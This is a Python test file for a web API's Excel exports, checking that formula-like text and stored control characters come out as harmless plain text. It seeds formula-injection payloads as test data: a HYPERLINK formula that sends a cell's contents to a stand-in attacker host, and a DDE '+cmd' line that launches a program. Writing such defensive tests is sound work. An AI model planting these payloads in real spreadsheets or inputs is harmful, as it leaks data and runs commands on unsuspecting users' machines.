"""Every Excel file the API hands out (issue #12, item 3): text that looks like a formula stays text, and records
stored before the text rule, holding control characters, still export (written into the tables directly here)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from chalicelib.models import Attendance, Organisation, Project, Session
from chalicelib.services.text import refused_char
from tests.api.attendance_helpers import id_number, person
from tests.api.jobs_helpers import export
from tests.api.test_projects import PROVINCIAL, fetch

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C3,"x")'


def workbook(api, path, token, **query):
    # The import template is a fixed small file, still handed out directly; every export is a job.
    status, body = (
        api.get(path, token, **query) if path.endswith("import-template") else export(api, path, token, **query)
    )
    assert status == 200, body
    assert refused_char(body["filename"]) is None and "/" not in body["filename"], body["filename"]
    return load_workbook(io.BytesIO(fetch(body["url"])))


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_plain(book) -> list:
    """No formula cell and no character a text input may not hold; the cells' values."""
    found = cells(book)
    assert [(c.coordinate, c.value) for c in found if c.data_type == "f"] == []
    texts = [c.value for c in found if isinstance(c.value, str)]
    assert [text for text in texts if refused_char(text, multiline=True) is not None] == []
    return [c.value for c in found]


def test_project_list_export_has_no_formula_and_survives_stored_controls(api, roles):
    org, admin, office = roles["org"], roles["admin"], roles["office"]
    status, project = api.post("/projects/provincial", {**PROVINCIAL, "name": HYPERLINK}, org)
    assert status == 201, project
    pid = project["project_id"]
    api.post(f"/projects/{pid}/declare", token=org)
    api.post(f"/projects/{pid}/forward", token=admin)
    assert api.post(f"/projects/{pid}/reject", {"reason": "+cmd|' /C calc'!A0"}, office)[0] == 200
    status, other = api.post("/projects/provincial", {**PROVINCIAL, "name": "正常项目"}, org)
    Project.get(other["project_id"]).update(actions=[Project.name.set("A\u0000B"), Project.department.set("@科\x85室")])

    values = assert_plain(workbook(api, "/projects/export", office, year=2026))
    assert "'" + HYPERLINK in values and "AB" in values and "'@科室" in values
    assert any(isinstance(v, str) and "+cmd" in v for v in values), "the review reason is there, as text"


def test_attendance_export_has_no_formula_and_survives_a_stored_control_character(api, approved):
    sid = approved["sid"]
    hostile = person(unit=HYPERLINK, department="+1", title="-2", region="@SUM(A1)", position="=1+1")
    assert api.post(f"/public/attendance/{sid}/sign-in", {"t": approved["tokens"]["in"], **hostile})[0] == 200
    other = person(
        id_number=id_number("32010219851111431"), mobile="13800000001", client_id="phone-2", name="李四", age=41
    )
    assert api.post(f"/public/attendance/{sid}/sign-in", {"t": approved["tokens"]["in"], **other})[0] == 200
    stored = next(a for a in Attendance.query(sid) if a.name == "李四")
    stored.update(actions=[Attendance.name.set("钱\u0001某"), Attendance.unit.set("南京\u0000医院\ufffe")])

    values = assert_plain(workbook(api, f"/sessions/{sid}/attendance/export", approved["org"]))
    assert {"'" + HYPERLINK, "'+1", "'-2", "'@SUM(A1)", "'=1+1", "钱某", "南京医院"} <= set(values)
    assert 36 in values, "numbers stay numbers"


def _taint_session(sid: str) -> None:
    """What a record written before the text rule may hold: controls, and formula-like text everywhere."""
    session = Session.get(sid)
    template = session.questionnaire
    template["questions"][0]["text"] = "=1+1\u0002"
    template["questions"][0]["options"][0] = "@cmd"
    session.update(
        actions=[
            Session.project_name.set(HYPERLINK + "\u0000"),
            Session.org_name.set("\u0001=南京示范医院"),
            Session.questionnaire.set(template),
        ]
    )
    # the province's row of the organisation (the aggregates keep the name the session had when it was settled)
    from chalicelib.models import Aggregate
    from chalicelib.services.aggregate_rules import org_row_item, province_scope

    row = Aggregate(province_scope(session.start_date[:4]), org_row_item(session.org_id))
    row.update(actions=[Aggregate.org_name.set("\u0001=南京示范医院")])


def test_report_exports_have_no_formula_and_survive_stored_controls(api, approved):
    sid, org, admin, office = approved["sid"], approved["org"], approved["admin"], approved["office"]
    _taint_session(sid)
    organisation = Organisation.get(Session.get(sid).org_id)
    organisation.update(actions=[Organisation.name.set("南京\u0000示范/医院")])

    session_values = assert_plain(workbook(api, f"/reports/sessions/{sid}/export", org))
    assert "'" + HYPERLINK in session_values and "'=1+1" in session_values and "'@cmd" in session_values

    org_values = assert_plain(workbook(api, "/reports/organisations/export", admin, year=2026))
    assert "'" + HYPERLINK in org_values and "南京示范/医院" in org_values

    province_values = assert_plain(workbook(api, "/reports/province/export", office, year=2026))
    assert "'=南京示范医院" in province_values


def test_import_template_has_no_formula(api, roles):
    values = assert_plain(workbook(api, "/projects/import-template", roles["office"]))
    assert values[:3] == ["项目年份", "项目编号", "项目名称"] and 2026 in values
